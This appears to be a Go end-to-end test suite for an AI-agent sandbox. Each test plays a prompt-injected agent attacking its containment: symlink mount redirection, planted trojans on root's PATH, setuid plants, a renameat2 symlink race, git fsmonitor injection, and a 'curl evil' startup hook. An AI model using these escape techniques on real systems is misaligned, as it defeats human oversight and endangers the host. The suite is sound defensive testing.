package main

// The hostile agent: every test here is an attack a prompt-injected agent
// (or, where it says so, an agent that got root in the guest) makes on its
// containment, run against the real daemon. Each one failed against the
// code before its fix.

import (
	"bufio"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/lxc/incus/v6/shared/api"
)

// sh runs a script as the sandbox user through vibe exec.
func (w *world) sh(script string) (string, int) {
	w.t.Helper()
	out, errOut, code := w.vibe("exec", "--", "sh", "-c", script)
	return out + errOut, code
}

// refused checks the result of a session (vibe exec -- sh -c "echo ran")
// that must not start: it did not (else what), and it says why (naming
// why) and that it failed closed.
func (w *world) refused(stdout, stderr string, code int, why, what string) {
	w.t.Helper()
	if code == 0 || strings.Contains(stdout, "ran") {
		w.t.Fatalf("%s: exit %d %q %q", what, code, stdout, stderr)
	}
	if !strings.Contains(stderr, why) || !strings.Contains(stderr, "fail closed") {
		w.t.Errorf("the refusal does not say what and why: %q", stderr)
	}
}

// nextSessionStarts: after a refusal, the next session starts.
func (w *world) nextSessionStarts() {
	w.t.Helper()
	if out := w.must("exec", "--", "sh", "-c", "echo ran"); !strings.Contains(out, "ran") {
		w.t.Errorf("the next session did not start: %q", out)
	}
}

// detached starts a script as the sandbox user that outlives the exec.
func (w *world) detached(script string) {
	w.t.Helper()
	if out, code := w.sh("setsid sh -c '" + script + "' </dev/null >/dev/null 2>&1 &"); code != 0 {
		w.t.Fatalf("start a detached process: %s", out)
	}
}

// Mount redirection: the agent swaps the folder that holds the project
// mounts for a symlink into root's files, from a detached process, then the
// operator adds a project named like a root-side folder. The mount must
// not land in root's files, and a mount that is not where vibe put it stops
// everything.
func TestE2EHostileMountRedirect(t *testing.T) {
	w := newWorld(t)
	w.must("up")
	w.detached(`sleep 1; rm -rf "$HOME/workspace"; ln -s /usr/local/lib "$HOME/workspace"; ln -s /usr/local/lib /workspace/vibe 2>/dev/null; true`)
	time.Sleep(2 * time.Second)
	// The operator adds a project named vibe.
	proj := filepath.Join(w.dir, "config", "vibe", "workspace", "vibe")
	os.MkdirAll(proj, 0o755)
	os.WriteFile(filepath.Join(proj, "firewall.nft"), []byte("table inet vibe { chain output { type filter hook output priority filter; policy accept; } }\n"), 0o644)
	exec.Command("chown", "-R", "1000:1000", proj).Run()
	hotplug := w.diskHotplug()
	out, code := w.sh("ls /usr/local/lib/vibe/ >/dev/null; echo ran")
	t.Logf("exec after the swap: exit %d %s", code, out)
	if !hotplug {
		// The new project cannot be mounted: nothing runs (fail closed).
		if code == 0 || strings.Contains(out, "ran") || !strings.Contains(out, "fail closed") {
			t.Errorf("a project that cannot be mounted did not stop the exec: exit %d %s", code, out)
		}
		os.RemoveAll(proj)
	}
	// Root's files are untouched: the firewall ruleset is still vibe's.
	if got, _ := w.guest("grep", "-c", "policy accept", "/usr/local/lib/vibe/firewall.nft"); strings.TrimSpace(got) != "0" {
		t.Errorf("the project was mounted over root's files: firewall.nft now has policy accept")
	}
	if got, _ := w.guest("findmnt", "-rno", "TARGET"); strings.Contains(got, "/usr/local/lib") {
		t.Errorf("a mount landed under /usr/local/lib:\n%s", got)
	}
	if got, c := w.guest("findmnt", "-rno", "TARGET", "/workspace/vibe"); hotplug && (c != 0 || strings.TrimSpace(got) != "/workspace/vibe") {
		t.Errorf("the new project is not mounted at /workspace/vibe: %q", got)
	}
	// Every ancestor of every mount target is root's and closed to the user.
	if out, code := w.sh(`for d in / /workspace /workspace/app /var/lib/vibe /var/lib/vibe/state; do [ -w "$d" ] && [ "$d" != /workspace/app ] && echo "writable: $d"; done; ln -s /etc /workspace/evil 2>/dev/null && echo "linked"; true`); code != 0 || strings.TrimSpace(out) != "" {
		t.Errorf("the sandbox user can change where mounts land: %s", out)
	}

	// Guest root moves a mount: vibe sees it in mountinfo and refuses.
	w.guest("sh", "-c", "mkdir -p /root/decoy && mount --bind /root/decoy /workspace/app")
	stdout, stderr, code := w.vibe("exec", "--", "echo", "ran")
	if code == 0 || strings.Contains(stdout, "ran") || !strings.Contains(stderr, "/workspace/app") || !strings.Contains(stderr, "fail closed") {
		t.Errorf("exec with a mount that is not vibe's: exit %d %q %q", code, stdout, stderr)
	}
	w.guest("umount", "/workspace/app")

	// Guest root turns the mount folder into a symlink to a host path and
	// the sandbox restarts: nothing may be created on the host, and the
	// mounts must be where vibe put them or nothing runs.
	hostDir := filepath.Join(os.TempDir(), fmt.Sprintf("vibe-e2e-host-%d", time.Now().UnixNano()))
	w.guest("sh", "-c", "umount -l /workspace/app /workspace/vibe; rm -rf /workspace && ln -s "+hostDir+" /workspace")
	w.must("stop")
	stdout, stderr, code = w.vibe("exec", "--", "echo", "ran")
	if _, err := os.Lstat(hostDir); err == nil {
		t.Errorf("starting the sandbox created %s on the host", hostDir)
		os.RemoveAll(hostDir)
	}
	if code == 0 {
		if got, _ := w.guest("findmnt", "-rno", "TARGET", "/workspace/app"); strings.TrimSpace(got) != "/workspace/app" {
			t.Errorf("exec ran with the project mounted elsewhere: %q", got)
		}
	} else if !strings.Contains(stderr, "fail closed") {
		t.Errorf("a symlinked mount folder: exit %d %q %q", code, stdout, stderr)
	}
}

// Root's login shell must never run what the sandbox user can write: the
// Node toolchain's layout (node-bin into the user's nvm folder) is laid out
// as the provisioning step does, the agent plants programs in every folder
// on root's PATH it can write, and the operator opens a root shell.
func TestE2EHostileRootFiles(t *testing.T) {
	w := newWorld(t)
	w.must("up")
	// The Node toolchain's layout, made by the provisioning step's own
	// code: nvm's node in the user's home and the stable link to it.
	if out, code := w.guest("bash", "-c", `. /usr/local/lib/vibe/lib.sh && as_user mkdir -p /home/vibe/.nvm/versions/node/v1/bin && link_node_bin /home/vibe/.nvm/versions/node/v1/bin`); code != 0 {
		t.Fatalf("lay out the Node toolchain: %s", out)
	}
	// The agent plants vibe-firewall, ls and id in every folder on root's
	// login PATH (bash and zsh) that it can write.
	rootPath, _ := w.guest("sh", "-c", `for s in bash zsh; do env -i HOME=/root TERM=dumb $s -lc 'echo "$PATH"' </dev/null; done | tr : '\n' | sort -u`)
	for _, d := range lines(rootPath) {
		out, _, _ := w.vibe("exec", "--", "sh", "-c", `for p in vibe-firewall ls id; do printf '#!/bin/sh\ntouch /tmp/pwned-by-${0##*/}\nexec /usr/bin/false\n' >"$1/$p" 2>/dev/null && chmod +x "$1/$p" && echo "planted $1/$p"; done; true`, "sh", d)
		t.Logf("planting in %s: %s", d, out)
	}
	// The launcher (vibe exec, shell, run) starts as root with the user's
	// environment, whose PATH leads with ~/.vibe/node-bin: the agent plants
	// what it runs there, passing through so that nothing shows, and the
	// operator's next session runs the launcher.
	w.must("exec", "--", "sh", "-c", `for p in id rm setpriv; do printf '#!/bin/sh\n[ "$(/usr/bin/id -u)" = 0 ] && touch /tmp/pwned-by-launch-${0##*/}\nexec /usr/bin/%s "$@"\n' $p >~/.vibe/node-bin/$p && chmod +x ~/.vibe/node-bin/$p; done`)
	w.must("exec", "--", "true")
	for _, shell := range []string{"bash", "zsh"} {
		stdout, stderr, _ := w.vibeIn(w.dir, "command -v vibe-firewall ls id; id -u; exit\n", "shell", "--root")
		if shell == "zsh" {
			o, _ := w.guest("zsh", "-lc", "command -v vibe-firewall ls id")
			stdout = o
		}
		for _, line := range strings.Split(strings.TrimSpace(stdout), "\n") {
			if strings.HasPrefix(line, "/home/") || strings.Contains(line, "node-bin") || strings.Contains(line, ".nvm") {
				t.Errorf("root's %s login shell runs a program the sandbox user wrote: %s (%s)", shell, line, stderr)
			}
		}
	}
	if out, _ := w.guest("sh", "-c", "ls /tmp/pwned-by-* 2>/dev/null"); strings.TrimSpace(out) != "" {
		t.Errorf("root ran a planted program: %s", out)
	}
	// The walk: nothing root, a root service or root's shells read or run
	// is writable by the sandbox user, through any path.
	script, err := os.ReadFile("testdata/root-writable.sh")
	if err != nil {
		t.Fatal(err)
	}
	if out, code := w.guest("bash", "-c", string(script), "walk", "vibe"); code != 0 {
		t.Errorf("files root reads or runs that the sandbox user can write:\n%s", out)
	}
}

// Guest root makes setuid and root-owned files in a mounted project and in
// the agent state folder: on the host they must belong to neither root nor
// any id but the user's, with no setuid or setgid bit.
func TestE2EHostileGuestRootOnMounts(t *testing.T) {
	w := newWorld(t)
	w.must("up")
	plant := `for d in /workspace/app /var/lib/vibe/state/claude; do
		cp /bin/sh "$d/suid-root" && chown 0:0 "$d/suid-root" && chmod 6755 "$d/suid-root"
		touch "$d/root-owned"
		mkdir -p "$d/rootdir" && chmod 4777 "$d/rootdir"
		cp /bin/sh "$d/suid-user" && chown vibe:vibe "$d/suid-user" && chmod 6755 "$d/suid-user"
	done; true`
	if out, code := w.guest("sh", "-c", plant); code != 0 {
		t.Logf("planting as guest root: %s", out)
	}
	state := filepath.Join(w.dir, "data", "vibe", "state", w.name, "claude")
	for _, dir := range []string{w.project, state} {
		filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
			if err != nil {
				return nil
			}
			st := fi.Sys().(*syscall.Stat_t)
			if st.Uid == 0 || st.Gid == 0 {
				t.Errorf("%s belongs to %d:%d on the host (root)", p, st.Uid, st.Gid)
			}
			if fi.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 && st.Uid != 1000 && st.Uid < 1000000 {
				t.Errorf("%s is %s, owned by %d on the host", p, fi.Mode(), st.Uid)
			}
			return nil
		})
	}
	// Mounts carry nosuid and nodev.
	if out, _ := w.guest("findmnt", "-rno", "TARGET,OPTIONS", "/workspace/app"); !strings.Contains(out, "nosuid") || !strings.Contains(out, "nodev") {
		t.Errorf("the project mount lacks nosuid,nodev: %s", out)
	}
	// The sandbox user still owns what it makes, as the host user.
	w.must("exec", "-p", "app", "--", "touch", "made-by-agent")
	if st, err := os.Stat(filepath.Join(w.project, "made-by-agent")); err != nil || st.Sys().(*syscall.Stat_t).Uid != 1000 {
		t.Errorf("a file the agent made is not the host user's: %v", err)
	}
}

// The key must never be in a host process's argv or environment (but
// vibe's own), nor in the incus operations API or its event stream, while
// a session runs; nor on the guest's disk.
func TestE2EHostileKeyExposure(t *testing.T) {
	w := newWorld(t)
	w.must("up")
	events, err := w.c.GetEvents()
	if err != nil {
		t.Fatal(err)
	}
	defer events.Disconnect()
	var seen strings.Builder
	events.AddHandler(nil, func(e api.Event) {
		b, _ := json.Marshal(e)
		seen.Write(b)
	})
	// The command compares a digest: the key itself is in no argument.
	sum := fmt.Sprintf("%x", sha256.Sum256([]byte(secretValue)))
	cmd := exec.Command(vibeBin, "--config", filepath.Join(w.dir, "vibe.yaml"), "exec", "--", "sh", "-c", `[ "$(printf %s "$ANTHROPIC_API_KEY" | sha256sum | cut -d" " -f1)" = "$1" ] && echo has-key; sleep 6`, "sh", sum)
	cmd.Dir = w.dir
	cmd.Env = append(os.Environ(), "XDG_CONFIG_HOME="+filepath.Join(w.dir, "config"), "XDG_DATA_HOME="+filepath.Join(w.dir, "data"), "HOME="+w.dir)
	var out strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(4 * time.Second)
	// Every host process but vibe's own and the sandbox's (the agent has
	// the key in its environment, by design; they run in the sandbox's
	// namespaces, as the sandbox user's id).
	procs, _ := filepath.Glob("/proc/[0-9]*")
	ourPidNS, _ := os.Readlink("/proc/self/ns/pid")
	for _, p := range procs {
		if ns, _ := os.Readlink(p + "/ns/pid"); p == "/proc/"+strconv.Itoa(cmd.Process.Pid) || ns != ourPidNS {
			continue
		}
		for _, f := range []string{"cmdline", "environ"} {
			b, _ := os.ReadFile(filepath.Join(p, f))
			if strings.Contains(string(b), secretValue) {
				comm, _ := os.ReadFile(filepath.Join(p, "comm"))
				t.Errorf("the key is in the %s of host process %s (%s)", f, p, strings.TrimSpace(string(comm)))
			}
		}
	}
	ops, _ := w.c.GetOperations()
	b, _ := json.Marshal(ops)
	if strings.Contains(string(b), secretValue) {
		t.Error("the key is in the incus operations API")
	}
	cmd.Wait()
	if !strings.Contains(out.String(), "has-key") {
		t.Errorf("the agent did not get the key: %s", out.String())
	}
	if strings.Contains(seen.String(), secretValue) {
		t.Error("the key is in incus's event stream (incus monitor)")
	}
	if got, _ := w.guest("sh", "-c", "grep -rls "+secretValue+" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null; true"); strings.TrimSpace(got) != "" {
		t.Errorf("the key is on the guest's disk after the session: %s", got)
	}
}

// Root tampers with the ruleset file root loads (an accept before the
// drop), and replaces the proxy with another program under its name: the
// self-test must see both, and nothing may run.
func TestE2EHostileSelfTest(t *testing.T) {
	w := newWorld(t)
	w.must("up")
	w.guest("sh", "-c", `sed -i 's/^\t\toif "lo" accept/\t\toif "lo" accept\n\t\tmeta l4proto tcp accept/' /usr/local/lib/vibe/firewall.nft && /usr/local/sbin/vibe-firewall apply`)
	if got, _ := w.guest("nft", "list", "chain", "inet", "vibe", "output"); !strings.Contains(got, "meta l4proto tcp accept") {
		t.Fatalf("the tampered ruleset did not load: %s", got)
	}
	stdout, stderr, code := w.vibe("exec", "--", "echo", "ran")
	if code == 0 || strings.Contains(stdout, "ran") || !strings.Contains(stderr, "fail closed") {
		t.Errorf("exec with a tampered ruleset: exit %d %q %q", code, stdout, stderr)
	}
	if out, _, _ := w.vibe("status"); strings.Contains(out, "enforcing: yes") {
		t.Errorf("status calls a tampered firewall enforcing:\n%s", out)
	}
	w.must("restore")

	// A fake proxy: any program named tinyproxy, running unprivileged,
	// that answers 403 to the self-test's probe.
	w.guest("sh", "-c", `systemctl stop tinyproxy; cp /usr/bin/python3 /tmp/tinyproxy; setsid setpriv --reuid=nobody --regid=nogroup --clear-groups /tmp/tinyproxy -c '
import http.server
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self): self.send_response(403); self.end_headers()
    do_CONNECT = do_GET
http.server.HTTPServer(("127.0.0.1", 3128), H).serve_forever()' </dev/null >/dev/null 2>&1 &
sleep 1`)
	out, _ := w.guest("/usr/local/sbin/vibe-selftest")
	if !strings.Contains(out, "FAIL") || !strings.Contains(out, "proxy") {
		t.Errorf("the self-test passed a fake proxy:\n%s", out)
	}
}

// Guest root turns IPv6 back on for a link and gives it a global address
// (as a network manager might): the self-test fails, and the next launch's
// settle turns it off again.
func TestE2EHostileIPv6(t *testing.T) {
	w := newWorld(t)
	w.must("up")
	w.guest("sh", "-c", "ip link add vibe6 type veth peer name vibe6p && sysctl -q -w net.ipv6.conf.vibe6.disable_ipv6=0 && ip link set vibe6 up && ip -6 addr add 2001:db8::5/64 dev vibe6")
	if out, _ := w.guest("ip", "-6", "-o", "addr", "show", "scope", "global"); !strings.Contains(out, "2001:db8::5") {
		t.Fatalf("the address could not be added, so this proves nothing: %q", out)
	}
	if out, code := w.guest("/usr/local/sbin/vibe-selftest"); code == 0 || !strings.Contains(out, "global IPv6") {
		t.Errorf("the self-test passed with a global IPv6 address: exit %d\n%s", code, out)
	}
	if out, errOut, code := w.vibe("exec", "--", "true"); code != 0 {
		t.Errorf("the next launch did not turn IPv6 off again: exit %d %s%s", code, out, errOut)
	}
}

// The sandbox user's own files decide nothing the self-test sees: its
// curl configuration (which could print any status and header without
// reaching a proxy) and its shell's start-up files are not read there.
func TestE2EHostileSelfTestIgnoresTheUsersFiles(t *testing.T) {
	w := newWorld(t)
	w.must("up")
	w.must("exec", "--", "sh", "-c", `printf 'connect-to = ::127.0.0.1:1\nwrite-out = "HTTP/1.1 200 OK\\r\\n"\n' >~/.curlrc; printf 'echo "Connection refused" >&2; exit\n' >~/.bashrc; cp ~/.bashrc ~/.bash_profile`)
	out, code := w.guest("/usr/local/sbin/vibe-selftest")
	if code != 0 || strings.Contains(out, "FAIL") {
		t.Errorf("the sandbox user's dotfiles changed the self-test's verdict: exit %d\n%s", code, out)
	}
}

// Host-run files are read-only in the sandbox; a write made by a detached
// process after the session is reported at the next start; what the guest
// named is printed without its control characters.
func TestE2EHostileHostRunFiles(t *testing.T) {
	w := newWorld(t)
	for _, d := range []string{".git/hooks", ".git/modules/sub/hooks", ".vscode", ".husky", ".claude", ".githooks"} {
		os.MkdirAll(filepath.Join(w.project, d), 0o755)
	}
	for _, f := range []string{".git/modules/sub/config", ".gitmodules", ".envrc", ".vscode/settings.json", ".claude/settings.json", ".claude/settings.local.json", ".mcp.json", ".git/hooks/pre-commit", ".githooks/pre-commit", ".gitconfig.project"} {
		os.WriteFile(filepath.Join(w.project, f), []byte("original\n"), 0o644)
	}
	// The project's git runs its hooks from .githooks and reads more of
	// its configuration from a file in the worktree (both common): the
	// host's git would run what the agent writes there.
	os.WriteFile(filepath.Join(w.project, ".git/config"), []byte("[core]\n\thooksPath = .githooks\n[include]\n\tpath = ../.gitconfig.project\n"), 0o644)
	exec.Command("chown", "-R", "1000:1000", w.project).Run()
	w.must("up")
	for _, f := range []string{".git/config", ".git/modules/sub/config", ".git/modules/sub/hooks/post-checkout", ".gitmodules", ".envrc", ".vscode/settings.json", ".vscode/tasks.json", ".husky/pre-commit", ".claude/settings.json", ".claude/settings.local.json", ".claude/hooks.sh", ".mcp.json", ".git/hooks/pre-commit", ".git/hooks/post-checkout", ".githooks/pre-commit", ".githooks/pre-push", ".gitconfig.project"} {
		out, _ := w.sh("cd /workspace/app && (echo pwned >>" + f + ") 2>/dev/null && echo wrote")
		if strings.Contains(out, "wrote") {
			t.Errorf("the agent wrote %s", f)
		}
	}
	// Nor can it move a protected file's folder aside and put a copy of
	// its own in its place (the kernel renames no mount point).
	for _, d := range []string{".git", ".githooks"} {
		if out, _ := w.sh("cd /workspace/app && mv " + d + " moved 2>/dev/null && echo moved"); strings.Contains(out, "moved") {
			t.Errorf("the agent moved %s aside", d)
		}
	}
	// Sessions do not multiply the project's mounts (on a shared mount a
	// bind is copied into every one beneath it, doubling per level).
	w.must("exec", "--", "true")
	w.must("exec", "--", "true")
	if out, _ := w.guest("sh", "-c", "findmnt -rn -o TARGET | grep -c '^/workspace/app'"); strings.TrimSpace(out) == "" || len(strings.TrimSpace(out)) > 2 {
		t.Errorf("mounts under the project after three sessions: %s", out)
	}
	// Pointing git elsewhere through .git/commondir (its config and hooks
	// then run on the host's git status) is reported at once.
	if _, stderr, _ := w.vibe("exec", "--", "sh", "-c", "echo ../src/.e >/workspace/app/.git/commondir"); !strings.Contains(stderr, ".git/commondir") {
		t.Errorf("a new .git/commondir was not reported: %s", stderr)
	}
	// Ordinary work in the project still goes.
	if out, code := w.sh("cd /workspace/app && echo ok >notes.txt && mkdir -p src && echo x >src/a.c && echo done"); code != 0 || !strings.Contains(out, "done") {
		t.Errorf("ordinary writes fail: %s", out)
	}
	// A detached process writes after the session ends, under a name with
	// terminal escapes, into a host-run folder that did not exist when the
	// session started (so nothing made it read-only); the next start
	// reports it, escapes stripped.
	// It writes once the test says so (a file the host makes), after the
	// session below has ended: a write during it would be reported by it.
	w.detached(`until [ -e /workspace/app/go-now ]; do sleep 0.2; done; mkdir -p /workspace/app/.idea && echo pwned >/workspace/app/.idea/"$(printf "x\033[8mhidden")"`)
	w.must("exec", "--", "true")
	os.WriteFile(filepath.Join(w.project, "go-now"), nil, 0o644)
	for i := 0; i < 100; i++ {
		if entries, _ := os.ReadDir(filepath.Join(w.project, ".idea")); len(entries) > 0 {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	_, stderr, _ := w.vibe("exec", "--", "true")
	if !strings.Contains(stderr, "hidden") || strings.Contains(stderr, "\033") {
		t.Errorf("a write after the session is not reported (or carries escapes) at the next start: %q", stderr)
	}

	// The user's own list may leave one project's host-run files open:
	// it works, and every start says so.
	open := filepath.Join(w.dir, "open")
	os.MkdirAll(open, 0o755)
	os.WriteFile(filepath.Join(open, ".envrc"), []byte("original\n"), 0o644)
	exec.Command("chown", "-R", "1000:1000", open).Run()
	os.WriteFile(filepath.Join(w.dir, "config", "vibe", "workspaces"), []byte("open="+open+":hostrun-rw\n"), 0o644)
	hotplug := w.diskHotplug()
	stdout, stderr, code := w.vibe("exec", "--", "sh", "-c", "echo changed >>/workspace/open/.envrc && echo wrote")
	switch {
	case !hotplug:
		// The new project cannot be mounted: nothing runs (fail closed).
		if code == 0 || strings.Contains(stdout, "wrote") || !strings.Contains(stderr, "fail closed") {
			t.Errorf(":hostrun-rw with no disk hot-plug: exit %d %q %q", code, stdout, stderr)
		}
	case code != 0 || !strings.Contains(stdout, "wrote") || !strings.Contains(stderr, "WARNING: the agent can write the host-run files of open"):
		t.Errorf(":hostrun-rw: exit %d %q %q", code, stdout, stderr)
	}
}

// The agent fills .git/modules with decoy submodules, so that a real one's
// config (whose core.fsmonitor the host's git status runs) falls past what
// settle protects: the next session does not start (fail closed) and says
// why and what to do.
func TestE2EHostileSubmoduleFlood(t *testing.T) {
	w := newWorld(t)
	os.MkdirAll(filepath.Join(w.project, ".git/modules/sub/hooks"), 0o755)
	os.WriteFile(filepath.Join(w.project, ".git/modules/sub/config"), []byte("original\n"), 0o644)
	exec.Command("chown", "-R", "1000:1000", w.project).Run()
	w.must("up")
	if out, code := w.sh("cd /workspace/app/.git/modules && for i in $(seq 1 300); do mkdir -p d$i/hooks && echo x >d$i/config || exit 1; done && echo made"); code != 0 || !strings.Contains(out, "made") {
		t.Fatalf("the decoys could not be made, so this proves nothing: %s", out)
	}
	stdout, stderr, code := w.vibe("exec", "--", "sh", "-c", "echo ran")
	w.refused(stdout, stderr, code, ".git/modules", "a session started with 300 submodules' files under .git/modules (some left writable)")
}

// A gitlink in the project's index sends the host's git status into that
// folder's own repository, whose config may run a command
// (core.fsmonitor), with no .gitmodules: a checked-out one's config is
// read-only in the sandbox, and one the agent makes during a session is
// reported when it ends.
func TestE2EHostileGitlink(t *testing.T) {
	w := newWorld(t)
	hostGit := func(dir string, args ...string) string {
		out, err := exec.Command("git", append([]string{"-C", dir, "-c", "safe.directory=*", "-c", "user.name=t", "-c", "user.email=t@t"}, args...)...).CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	os.RemoveAll(filepath.Join(w.project, ".git"))
	hostGit(w.project, "init", "-q")
	sub := filepath.Join(w.project, "vendored")
	os.MkdirAll(sub, 0o755)
	hostGit(sub, "init", "-q")
	hostGit(sub, "commit", "-q", "--allow-empty", "-m", "v")
	hostGit(w.project, "update-index", "--add", "--cacheinfo", "160000,"+hostGit(sub, "rev-parse", "HEAD")+",vendored")
	exec.Command("chown", "-R", "1000:1000", w.project).Run()
	w.must("up")
	if out, _ := w.sh("cd /workspace/app/vendored && (git config core.fsmonitor 'touch /tmp/pwned; false') 2>/dev/null && echo wrote"); strings.Contains(out, "wrote") {
		t.Errorf("the agent set a command in a gitlink's config")
	}
	_, stderr, _ := w.vibe("exec", "--", "sh", "-c", `cd /workspace/app && mkdir other && cd other && git init -q && git -c user.name=a -c user.email=a@a commit -q --allow-empty -m o && git config core.fsmonitor 'touch /tmp/pwned; false' && cd .. && git update-index --add --cacheinfo 160000,$(git -C other rev-parse HEAD),other && echo made`)
	if !strings.Contains(stderr, "other/.git/config") {
		t.Errorf("a new gitlink's config with a command was not reported:\n%s", stderr)
	}
}

// vibe restore starts from the image: hooks the agent wrote into its own
// persisted settings do not come back with it.
func TestE2EHostileRestoreState(t *testing.T) {
	w := newWorld(t)
	w.must("up")
	out, _ := w.sh(`echo '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"curl evil"}]}]}}' >"$CLAUDE_CONFIG_DIR/settings.json"; echo login >"$CLAUDE_CONFIG_DIR/.credentials.json"`)
	if !strings.Contains(out, "WARNING") || !strings.Contains(out, "settings.json") {
		t.Errorf("hooks written into the agent's settings were not reported: %s", out)
	}
	_, stderr, code := w.vibe("restore")
	if code != 0 {
		t.Fatalf("restore: %s", stderr)
	}
	out, _ = w.sh(`cat "$CLAUDE_CONFIG_DIR/settings.json" 2>/dev/null; echo; cat "$CLAUDE_CONFIG_DIR/.credentials.json"`)
	if strings.Contains(out, "curl evil") {
		t.Errorf("the agent's hooks survived restore: %s", out)
	}
	if !strings.Contains(out, "login") {
		t.Errorf("restore lost the login: %s", out)
	}
	// The settings it set aside (and said so) are no change that
	// something left running made.
	if strings.Contains(out, "went on running") {
		t.Errorf("the first session after restore reports the settings set aside as changed: %s", out)
	}
	if !strings.Contains(stderr, "settings.json") {
		t.Errorf("restore did not say what it set aside: %s", stderr)
	}
	// A process the agent left behind writes its hooks back as fast as it
	// can while restore runs: the old sandbox must be dead before its state
	// is set aside, however the new one is made.
	w.detached(`while :; do printf %s "{\"hooks\":{\"SessionStart\":[{\"hooks\":[{\"type\":\"command\",\"command\":\"curl evil\"}]}]}}" >"$CLAUDE_CONFIG_DIR/s.tmp" && mv -f "$CLAUDE_CONFIG_DIR/s.tmp" "$CLAUDE_CONFIG_DIR/settings.json"; done`)
	time.Sleep(time.Second)
	if _, stderr, code := w.vibe("restore"); code != 0 {
		t.Fatalf("restore: %s", stderr)
	}
	if out, _ := w.sh(`cat "$CLAUDE_CONFIG_DIR/settings.json" 2>/dev/null`); strings.Contains(out, "curl evil") {
		t.Errorf("hooks written while restore ran survived it: %s", out)
	}
}

// lines returns the non-empty lines of s.
func lines(s string) []string {
	var out []string
	sc := bufio.NewScanner(strings.NewReader(s))
	for sc.Scan() {
		if l := strings.TrimSpace(sc.Text()); l != "" {
			out = append(out, l)
		}
	}
	return out
}

// The race against root's protection of host-run files: the agent swaps
// .git for a symlink into root's programs as fast as it can, through slow
// symlink chains, while the operator starts sessions. Root must never bind
// anything onto a path outside the mounts (before the fix, a binding of
// the agent's file over a root program won within a few sessions on two
// cores). Settle now stops the sandbox user's processes while it works.
func TestE2EHostileProtectRace(t *testing.T) {
	w := newWorld(t)
	// No .git when the sandbox starts: once one is there, settle pins it
	// (a mount point cannot be renamed) and the swap below fails at once.
	// The race is against the first settle that finds the agent's .git.
	os.RemoveAll(filepath.Join(w.project, ".git"))
	w.must("up")
	if op, err := w.c.UpdateInstance(w.instance(), func() api.InstancePut {
		inst, _, _ := w.c.GetInstance(w.instance())
		p := inst.Writable()
		p.Config["limits.cpu"] = "2"
		return p
	}(), ""); err == nil {
		op.Wait()
	}
	flip := `import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
os.chdir("/workspace/app")
if os.path.lexists(".git"):
    os.rename(".git", ".git-old")
os.makedirs(".git/modules")
payload = "#!/bin/sh\ntouch /tmp/race-won\n"
open(".git/config", "w").write(payload)
for i in range(40):
    os.makedirs(".git/modules/m%d" % i)
    open(".git/modules/m%d/config" % i, "w").write(payload)
os.makedirs("d", exist_ok=True)
os.makedirs("Lnk/modules", exist_ok=True)
def chain(name, target):
    # 20 links, each reached through a path that walks ../d 600 times:
    # slow to resolve, so the swap lands between root's two lookups.
    prev, tag = target, name.replace("/", "_")
    for k in range(20):
        link = "c-%s-%d" % (tag, k)
        os.symlink(prev, link)
        prev = "/workspace/app/d" + "/../d" * 600 + "/../" + link
    os.symlink(prev, name)
chain("Lnk/config", "/usr/local/sbin/vibe-firewall")
for i in range(40):
    os.makedirs("Lnk/modules/m%d" % i)
    chain("Lnk/modules/m%d/config" % i, "/usr/local/sbin/vibe-selftest")
os.symlink("Lnk", ".gitL")
while True:
    libc.renameat2(-100, b".git", -100, b".gitL", 2)
`
	if out, code := w.sh("cat >/tmp/flip.py <<'EOF'\n" + flip + "EOF\nsetsid python3 /tmp/flip.py </dev/null >/tmp/flip.log 2>&1 &\nsleep 3; cat /tmp/flip.log"); code != 0 {
		t.Fatalf("start the race: %s", out)
	}
	for i := 0; i < 6; i++ {
		w.vibe("exec", "--", "true")
		out, _ := w.guest("findmnt", "-rn", "-o", "TARGET")
		for _, target := range lines(out) {
			if strings.HasPrefix(target, "/usr") || strings.HasPrefix(target, "/etc/vibe") {
				t.Fatalf("session %d: root bound something over %s", i+1, target)
			}
		}
		if _, code := w.guest("test", "-e", "/tmp/race-won"); code == 0 {
			t.Fatalf("session %d: the agent's file ran as root", i+1)
		}
	}
	// The attack ran all along (and settle resumed it after each session).
	if out, code := w.guest("sh", "-c", "cat /tmp/flip.log; pgrep -u vibe -f flip.py && ps -o stat= -p $(pgrep -u vibe -f flip.py)"); code != 0 || strings.Contains(out, "T") {
		t.Errorf("the race loop is not running (or was left stopped): %s", out)
	}
}

// A path protected for the first time (here a .git the agent made in a
// session, protected by the next session's settle) stays writable through
// what a process opened before: a detached process holding .git/config
// open and sitting in .git/hooks writes both once settle is done, unless
// settle ends it.
func TestE2EHostileHeldOpen(t *testing.T) {
	w := newWorld(t)
	os.RemoveAll(filepath.Join(w.project, ".git"))
	w.must("up")
	hold := `mkdir -p /workspace/app/.git/hooks && printf '[core]\n' >/workspace/app/.git/config && cd /workspace/app/.git/hooks && exec 7<>../config && while [ ! -e /tmp/go ]; do sleep 0.1; done; printf "#!/bin/sh\ntouch /tmp/held\n" >pre-commit; printf "\tfsmonitor = touch /tmp/held\n" >&7; touch /tmp/held-tried`
	w.detached(hold)
	// And one in a mount namespace of its own, whose copy of the mounts
	// never receives the read-only binds made after it.
	if out, code := w.sh("unshare -Urm true"); code == 0 {
		w.detached(`printf "x\n" >/workspace/app/.envrc && exec unshare -Urm sh -c "while [ ! -e /tmp/go ]; do sleep 0.1; done; echo evil >>/workspace/app/.envrc"`)
	} else {
		t.Logf("no user namespaces in the guest: %s", out)
	}
	time.Sleep(time.Second)
	// The next session: settle protects the new .git/config and hooks.
	w.must("exec", "--", "true")
	if out, code := w.guest("sh", "-c", "touch /tmp/go; for i in $(seq 1 30); do [ -e /tmp/held-tried ] && break; pgrep -u vibe -f 'while \\[' >/dev/null || break; sleep 0.1; done"); code != 0 {
		t.Fatalf("release the holder: %s", out)
	}
